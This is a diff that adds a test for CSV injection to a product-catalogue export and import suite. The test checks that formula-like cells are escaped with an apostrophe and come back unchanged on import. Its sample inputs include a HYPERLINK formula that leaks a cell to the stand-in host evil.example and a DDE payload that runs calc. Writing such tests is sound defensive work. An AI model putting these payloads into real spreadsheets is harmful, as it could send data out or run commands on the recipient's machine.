@@ -115,6 +115,36 @@ describe('catalogue CSV export and import', () => {
     expect(second).toBe(first);
   });
 
+  it('no cell runs as a spreadsheet formula, and the file imports back to the original text', async () => {
+    const source = open();
+    const formula = '=HYPERLINK("http://evil.example/?"&A2,"x")';
+    await source.commerce.createProduct(
+      card(formula, {
+        descriptionHtml: "+cmd|' /C calc'!A0",
+        tags: ['@Olympiacos'],
+        facts: { ...EMPTY_FACTS, set: '-2+3', parallel: '+Gold' },
+      }),
+    );
+    const file = await exported(source);
+    const cells = file.split('\r\n')[1] ?? '';
+    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
+    expect(cells).toContain("'+cmd");
+    expect(cells).toContain("'@Olympiacos");
+    expect(cells).toContain("'-2+3");
+    expect(cells).toContain("'+Gold");
+
+    const target = open();
+    await importFile(target, file);
+    const [product] = await target.commerce.listProducts();
+    expect(product).toMatchObject({
+      title: formula,
+      descriptionHtml: "+cmd|' /C calc'!A0",
+      tags: ['@Olympiacos'],
+      facts: { set: '-2+3', parallel: '+Gold' },
+    });
+    expect(await exported(target)).toBe(file);
+  });
+
   it('the same file again changes nothing: every product matches by handle and is skipped', async () => {
     const shop = open();
     await fillShop(shop);
